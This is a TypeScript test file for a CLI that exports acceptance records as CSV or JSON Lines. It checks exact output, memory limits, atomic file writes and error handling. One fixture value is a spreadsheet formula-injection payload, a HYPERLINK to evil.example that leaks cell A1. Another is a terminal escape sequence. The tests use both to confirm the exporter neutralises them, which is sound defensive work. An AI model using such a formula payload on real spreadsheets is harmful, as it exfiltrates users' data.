// `portal acceptances export`: complete and exact, in constant memory, and never a partial file. reading.test.ts exports while
// portals write.
import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { mkdirSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, type TestContext, test } from 'node:test'
import {
  ended,
  gatewayctl,
  gatewayctlProcess,
  onTerminal,
  skipWithoutScript,
  startGatewayctl,
} from '../../test/gatewayctl/gatewayctl.ts'
import { acceptanceRequest, openReplica } from '../../test/ledger/fixture.ts'
import { databases, query } from '../../test/support/databases.ts'
import { emptyLedger, fill } from '../../test/support/ledgers.ts'
import { skipWithoutDevFull } from '../../test/support/requirement.ts'
import { temporaryFolder } from '../../test/support/temporary-folder.ts'
import { until } from '../../test/support/until.ts'

const EXPORT = ['portal', 'acceptances', 'export']
const sqlite = databases.find(({ dialect }) => dialect === 'sqlite') ?? assert.fail()
const ATTEMPT_COLUMNS =
  'id,asked_at,answered_at,engine_status,policy_version,document_sha256,locale,document_source,client_address'
const FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"x")'

/** Two attempts of a verdict whose id starts with a hyphen, with a formula as rule name; and one pending acceptance. */
async function smallLedger(t: TestContext, database = sqlite) {
  const location = await emptyLedger(t, database)
  let now = Date.UTC(2026, 10, 20, 12)
  const replica = await openReplica(t, location, () => now++)
  const request = acceptanceRequest({
    reference: '-abcdefghijklmnopqrstu',
    ruleName: FORMULA,
    clientAddress: '192.0.2.7',
  })
  const elsewhere = {
    locale: 'fr',
    policyVersion: '@previous',
    documentSource: 'assumed',
    clientAddress: '2001:db8::7',
  } as const
  await replica.completeAttempt(await replica.beginAttempt({ ...request, ...elsewhere }), 403)
  await replica.completeAttempt(await replica.beginAttempt(request), 302)
  await replica.beginAttempt(acceptanceRequest({ ruleName: 'two\nlines, "quoted"' }))
  return location
}

const lines = (text: string) => text.split('\n').filter((line) => line !== '')

for (const database of databases) {
  describe(`export, ${database.name}`, { skip: database.skip }, () => {
    test('JSON Lines has every column unchanged; CSV the same, except for formulas', async (t) => {
      const ledger = await smallLedger(t, database)
      const rows = await query(ledger, 'select * from acceptance order by requested_at')
      const attempts = await query(ledger, `select ${ATTEMPT_COLUMNS} from attempt order by id`)
      const [jsonl, withAttempts, csv, csvWithAttempts] = await Promise.all(
        [['--format', 'jsonl'], ['--format', 'jsonl', '--attempts'], [], ['--attempts']].map((options) =>
          gatewayctl([...EXPORT, ...options], { ledger }),
        ),
      )
      for (const outcome of [jsonl, withAttempts, csv, csvWithAttempts]) {
        assert.deepEqual([outcome?.status, outcome?.stderr], [0, ''])
      }
      const plain = (values: readonly unknown[]) => values.map((value) => ({ ...(value as object) }))
      assert.deepEqual(
        lines(`${jsonl?.stdout}`).map((line) => JSON.parse(line)),
        plain(rows),
      )
      assert.deepEqual(
        lines(`${withAttempts?.stdout}`).map((line) => JSON.parse(line)),
        [
          { ...rows[0], attempt_records: plain(attempts.slice(0, 2)) },
          { ...rows[1], attempt_records: plain(attempts.slice(2)) },
        ],
      )

      const [first, second] = rows
      const header =
        'id,jti,rule_name,policy_version,document_sha256,locale,document_source,state,requested_at,decided_at,engine_status,attempts,portal_version,client_address'
      const firstLine = `${first?.id},'-abcdefghijklmnopqrstu,"'=HYPERLINK(""https://evil.example/?""&A1;""x"")",2026-11-20,${first?.document_sha256},de,shown,accepted,2026-11-20T12:00:00.000Z,2026-11-20T12:00:00.003Z,302,2,2026.47.0-IR,192.0.2.7`
      // A random id may start with a hyphen.
      const jti = `${second?.jti}`.replace(/^-/, "'-")
      const secondLine = `${second?.id},${jti},"two\nlines, ""quoted""",2026-11-20,${second?.document_sha256},de,shown,pending,2026-11-20T12:00:00.004Z,,,1,2026.47.0-IR,`
      assert.deepEqual(new Set(header.split(',')), new Set(Object.keys(first ?? {})))
      assert.equal(csv?.stdout, `${header}\r\n${firstLine}\r\n${secondLine}\r\n`)
      const ofAttempts = attempts.map((attempt) => Object.values(attempt).join(',').replace('@', "'@"))
      assert.equal(
        csvWithAttempts?.stdout.replaceAll("'-", '-'),
        [
          `${header},${ATTEMPT_COLUMNS.replace(/^|(?<=,)/g, 'attempt_')}`,
          ...[firstLine, firstLine, secondLine].map((line, at) => `${line},${ofAttempts[at]}`),
          '',
        ]
          .join('\r\n')
          .replaceAll("'-", '-'),
      )
    })

    test('40,000 in a small heap: each once', { timeout: 240_000 }, async (t) => {
      const ledger = await emptyLedger(t, database)
      await fill(ledger, 40_000)
      const exporting = startGatewayctl([...EXPORT, '--format', 'jsonl', '--attempts'], {
        ledger,
        // All records at once would need 60 MB.
        nodeOptions: ['--max-old-space-size=32', '--max-semi-space-size=2'],
      })
      const { status, stdout, stderr } = await ended(exporting)
      assert.equal(status, 0, stderr)
      const ids = lines(stdout).map((line) => JSON.parse(line).id)
      assert.deepEqual([ids.length, new Set(ids).size], [40_000, 40_000])
    })
  })
}

test('nothing that matches, and attempts that are missing', async (t) => {
  const ledger = await emptyLedger(t, sqlite)
  await fill(ledger, 70)
  await query(ledger, 'delete from attempt')
  const [none, withoutAttempts] = await Promise.all([
    gatewayctl([...EXPORT, '--rule', 'no such rule'], { ledger }),
    gatewayctl([...EXPORT, '--attempts'], { ledger }),
  ])
  assert.deepEqual([none.status, lines(none.stdout).length], [0, 1])
  assert.equal(lines(withoutAttempts.stdout).filter((line) => line.endsWith(',,,,,,,,,\r')).length, 70)
})

describe('where it goes', () => {
  test('a file replaces the old one, readable for its owner only; a link stays a link', async (t) => {
    const ledger = await smallLedger(t)
    const folder = temporaryFolder(t)
    const file = join(folder, 'acceptances.csv')
    const link = join(folder, 'link.csv')
    writeFileSync(file, 'the old one', { mode: 0o644 })
    symlinkSync(file, link)
    const [toStdout, toLink] = await Promise.all([
      gatewayctl(EXPORT, { ledger }),
      gatewayctl([...EXPORT, '--output', link], { ledger }),
    ])
    assert.deepEqual(toLink, { status: 0, stdout: '', stderr: '' })
    assert.equal(readFileSync(file, 'utf8'), toStdout.stdout)
    assert.equal(statSync(file).mode & 0o777, 0o600)
    assert.deepEqual(readdirSync(folder).sort(), ['acceptances.csv', 'link.csv'])
  })

  test('a pipe, a folder, a missing folder, a full disk', async (t) => {
    const ledger = await smallLedger(t)
    const folder = temporaryFolder(t)
    mkdirSync(join(folder, 'folder'))
    const fifo = join(folder, 'fifo')
    execFileSync('mkfifo', [fifo])
    const [pipe, isFolder, missing, full] = await Promise.all([
      gatewayctl([...EXPORT, '--output', fifo], { ledger }),
      gatewayctl([...EXPORT, '--output', join(folder, 'folder')], { ledger }),
      gatewayctl([...EXPORT, '--output', join(folder, 'missing', 'x.csv')], { ledger }),
      gatewayctlProcess(EXPORT, { ledger, shell: `ulimit -f 0; exec "$@" --output ${join(folder, 'x.csv')}` }),
    ])
    for (const { status, stderr } of [pipe, isFolder]) {
      assert.equal(status, 2)
      assert.match(stderr, /^error: .* exists and is not a file\n$/)
    }
    assert.ok(statSync(fifo).isFIFO())
    assert.equal(missing.status, 1)
    assert.match(missing.stderr, /^error: .*x\.csv cannot be written: ENOENT/)
    assert.equal(full.status, 1)
    assert.match(full.stderr, /^error: .*x\.csv cannot be written: EFBIG/)
    assert.deepEqual(readdirSync(folder).sort(), ['fifo', 'folder'])
  })

  test('a full standard output', {
    skip: skipWithoutDevFull,
  }, async (t) => {
    const { status, stderr } = await gatewayctlProcess(EXPORT, {
      ledger: await smallLedger(t),
      shell: 'exec "$@" > /dev/full',
    })
    assert.equal(status, 1)
    assert.match(stderr, /^error: the output cannot be written: ENOSPC.*\n$/)
  })

  test('a reader that closes the pipe: ends without an error', async (t) => {
    const ledger = await emptyLedger(t, sqlite)
    await fill(ledger, 20_000)
    for (const format of ['csv', 'jsonl']) {
      const shell = 'set -o pipefail; "$@" | head -n 2'
      const { status, stdout, stderr } = await gatewayctlProcess([...EXPORT, '--format', format], { ledger, shell })
      assert.deepEqual([status, stderr, lines(stdout).length], [0, '', 2])
    }
  })
})

describe('on a terminal', { skip: skipWithoutScript }, () => {
  test('progress with a file or a pipe, escaped text on the terminal itself', async (t) => {
    const ledger = await emptyLedger(t, sqlite)
    await fill(ledger, 3_000)
    await query(
      ledger,
      `update acceptance set rule_name = 'x' || char(27) || '[2J', requested_at = requested_at || char(27)`,
    )
    const file = join(temporaryFolder(t), 'x.csv')
    const [toFile, toPipe, toScreen] = await Promise.all([
      onTerminal([...EXPORT, '--output', file], { ledger }),
      onTerminal(EXPORT, { ledger }, { redirection: '| wc -l' }),
      onTerminal([...EXPORT, '--until', '2025-01-01T00:00:01Z'], { ledger }),
    ])
    for (const { screen } of [toFile, toPipe]) {
      assert.match(screen, /\r\u001b\[K500 acceptances, \d+\.\d s, up to 2025-[\d:T.-]+Z\\u\{1b\}/)
      assert.match(screen, /\r\u001b\[K3,000 acceptances, \d+\.\d s\r\n/)
    }
    assert.match(toPipe.screen, /^3001\r$/m)
    assert.ok(readFileSync(file, 'utf8').includes('x\u001b[2J'))
    assert.equal(lines(toScreen.screen).length, 1 + 7 + 1)
    assert.match(toScreen.screen, /x\\u\{1b\}\[2J/)
    assert.ok(!toScreen.screen.includes('\u001b'))
  })

  test('Ctrl-C or a signal: only the old file remains', { timeout: 120_000 }, async (t) => {
    const ledger = await emptyLedger(t, sqlite)
    await fill(ledger, 50_000)
    const folder = temporaryFolder(t)
    const file = join(folder, 'acceptances.csv')
    writeFileSync(file, 'the old one')
    const { status, screen } = await onTerminal(
      [...EXPORT, '--output', file],
      { ledger },
      { awaited: /up to/, typed: '\u0003' },
    )
    assert.equal(status, 130, screen)
    assert.deepEqual(readdirSync(folder), ['acceptances.csv'])
    assert.equal(readFileSync(file, 'utf8'), 'the old one')

    const child = startGatewayctl([...EXPORT, '--output', file], { ledger })
    await until(() => readdirSync(folder).length > 1)
    child.kill('SIGTERM')
    assert.equal((await ended(child)).status, 143)
    assert.deepEqual(readdirSync(folder), ['acceptances.csv'])
  })
})
